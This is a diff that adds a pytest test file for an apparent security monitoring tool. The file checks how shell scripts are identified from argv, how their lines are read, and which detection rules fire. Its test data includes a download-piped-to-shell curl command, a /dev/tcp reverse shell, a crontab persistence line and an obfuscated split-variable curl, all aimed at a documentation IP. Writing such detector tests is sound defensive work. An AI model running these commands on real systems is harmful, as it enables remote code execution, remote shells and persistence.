@@ -1,0 +1,76 @@
+"""A shell script's lines judged like the same lines typed (gpuguard/scripts.py, agent/config_peek.py script_lines,
+collector/rules/context.py): which argv runs a script, which of its lines are read, and what the rules make of them
+(pure logic, and real files for the read)."""
+
+from __future__ import annotations
+
+import subprocess
+
+import pytest
+
+from agent.config_peek import MAX_SCRIPT_LINES, ConfigPeek, script_lines
+from gpuguard.scripts import script_of
+from tests.test_benign_commands import ENGINE, LINES
+from tests.test_rule_corpus import exec_event
+
+
+@pytest.mark.parametrize("argv, script", [
+    (["bash", "run.sh"], "run.sh"),
+    (["/bin/sh", "./x.sh", "a", "b"], "./x.sh"),              # a #! script reaches the kernel this way
+    (["bash", "-eu", "-o", "pipefail", "job.sh"], "job.sh"),
+    (["-bash", "--norc", "j.sh"], "j.sh"),
+    (["busybox", "sh", "/tmp/.x/s"], "/tmp/.x/s"),
+    (["dash", "--", "-odd-name.sh"], "-odd-name.sh"),
+    (["bash", "-c", "echo hi", "name"], None),                # inline code
+    (["bash", "-ec", "echo hi"], None),
+    (["sh", "-s", "arg"], None),                              # stdin
+    (["bash"], None),
+    (["python3", "run.py"], None),                            # not a shell
+])
+def test_which_argv_runs_a_script(argv, script):
+    assert script_of(argv) == script
+
+
+def test_only_command_lines_are_read_and_bounded():
+    body = "#!/bin/sh\n# a comment\n\nset -eu\nif true; then\n  echo ok\nfi\n" + "true\n" * (MAX_SCRIPT_LINES + 5)
+    lines = script_lines("s.sh", body.encode())
+    assert lines[0] == "s.sh:5: if true; then" and lines[1] == "s.sh:6: echo ok"
+    assert len(lines) == MAX_SCRIPT_LINES + 1 and lines[-1] == "s.sh: 7 more command lines not read"
+
+
+def test_a_script_is_read_as_the_process_sees_it(tmp_path):
+    (tmp_path / "run.sh").write_text("sleep 30\ncurl -s http://198.51.100.7/x | sh\n")
+    proc = subprocess.Popen(["sleep", "30"], cwd=tmp_path)
+    try:
+        lines = ConfigPeek().script("run.sh", proc.pid, 0, 0)
+    finally:
+        proc.kill()
+        proc.wait(5)
+    assert lines == ["run.sh:1: sleep 30", "run.sh:2: curl -s http://198.51.100.7/x | sh"]
+
+
+def fired_for_script(lines: list[str], argv=("bash", "run.sh")) -> set[str]:
+    ev = exec_event({"argv": list(argv), "exe": "/usr/bin/bash",
+                     "config_lines": [f"run.sh:{i}: {line}" for i, line in enumerate(lines, start=1)]})
+    return {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}
+
+
+def test_builtins_pipes_and_redirections_in_a_script_fire_what_they_fire_typed():
+    assert "reverse-shell-dev-tcp" in fired_for_script(["exec 3<>/dev/tcp/198.51.100.7/4444", "sh <&3 >&3"])
+    assert "download-piped-to-shell" in fired_for_script(["curl -s http://198.51.100.7/x | sh"])
+    assert "persistence-from-job" in fired_for_script(["echo '* * * * * root /tmp/.x' >> /etc/crontab"])
+
+
+def test_a_variable_set_on_one_line_is_read_where_another_uses_it():
+    assert "download-piped-to-shell" in fired_for_script(["a=cu", "b=rl", "$a$b -s http://198.51.100.7/x | sh"])
+
+
+def test_lines_of_a_config_file_are_not_read_as_a_script():
+    ev = exec_event({"argv": ["./x", "-c", "run.sh"], "config_lines": ["run.sh:1: curl -s http://198.51.100.7/x | sh"]})
+    assert "download-piped-to-shell" not in {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}
+
+
+def test_ordinary_commands_as_scripts_raise_nothing():
+    """The benign corpus's command lines, twenty to a script: no rule pattern spans two lines of a script."""
+    for i in range(0, len(LINES), 20):
+        assert not fired_for_script(LINES[i:i + 20]), LINES[i:i + 20]
